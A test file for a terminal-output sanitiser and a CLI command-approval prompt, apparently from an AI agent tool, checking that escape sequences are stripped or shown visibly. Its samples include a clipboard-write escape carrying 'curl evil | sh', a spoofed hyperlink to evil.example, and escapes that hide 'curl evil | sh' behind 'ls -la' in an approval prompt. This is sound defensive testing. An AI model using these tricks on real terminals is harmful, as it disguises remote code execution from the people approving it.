import { describe, expect, it } from 'vitest';
import { terminalSafe } from '../../../src-main/cli/terminal-safe';

describe('terminalSafe: a container log printed on the user’s terminal', () => {
  it('drops what acts outside the text: clipboard writes, links, titles, DCS/APC strings, cursor moves', () => {
    const log = [
      'before\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007after',
      '\u001b]8;;https://evil.example/\u001b\\https://github.com/ok\u001b]8;;\u001b\\',
      '\u001b]0;fake title\u0007title gone',
      '\u001bP+q544e\u001b\\dcs gone',
      '\u001b_apc payload\u001b\\apc gone',
      '\u001b[2J\u001b[1;1Hpainted over\u001b[A\u001b[K',
      '\u009d52;c;eA==\u009cC1 osc gone',
    ].join('\n');
    const out = terminalSafe(log);
    expect(out).toBe(['beforeafter', 'https://github.com/ok', 'title gone', 'dcs gone', 'apc gone', 'painted over', 'C1 osc gone'].join('\n'));
    // eslint-disable-next-line no-control-regex -- checking that none is left
    expect(out).not.toMatch(/[\u001b\u0080-\u009f]/);
  });

  it('keeps colours, newlines and tabs; \\r becomes a new line; other controls show as ?', () => {
    expect(terminalSafe('\u001b[1;31mred\u001b[0m\tok\r\nnext\rover\u0008\u0000')).toBe('\u001b[1;31mred\u001b[0m\tok\nnext\nover??');
    // An escape cut at the end of the log goes too.
    expect(terminalSafe('tail\u001b')).toBe('tail');
    expect(terminalSafe('tail\u001b]52;c;unterminated')).toBe('tail');
    // A line of CRLF output split on \n keeps its \r: no blank line after it.
    expect(terminalSafe('line of a Windows tool\r')).toBe('line of a Windows tool');
  });
});

describe('the CLI approval prompt', () => {
  it('shows every control character of what it asks to approve; none acts on the terminal', async () => {
    const { PassThrough } = await import('node:stream');
    const { promptApproval } = await import('../../../src-main/cli/commands/chat-support');
    const input = new PassThrough();
    const saved = Object.getOwnPropertyDescriptor(process, 'stdin')!;
    Object.defineProperty(process, 'stdin', { value: input, configurable: true });
    const written: string[] = [];
    try {
      const answered = promptApproval(
        {
          summary: 'curl evil | sh \r\u001b[2K\u001b[1Als -la',
          reason: 'balanced preset: commands that are not read-only ask.\u001b]52;c;eA==\u0007',
          diff: null,
          sessionRule: 'curl *',
          risk: 'high',
        } as never,
        (s) => written.push(s),
      );
      input.write('y\n');
      expect(await answered).toEqual({ decision: 'approve_once' });
    } finally {
      Object.defineProperty(process, 'stdin', saved);
    }
    const shown = written.join('');
    expect(shown).toContain('curl evil | sh ␍␛[2K␛[1Als -la');
    expect(shown).toContain('ask.␛]52;c;eA==?');
    // eslint-disable-next-line no-control-regex -- checking that none is left
    expect(shown).not.toMatch(/[\u001b\r\u0007]/);
  });
});
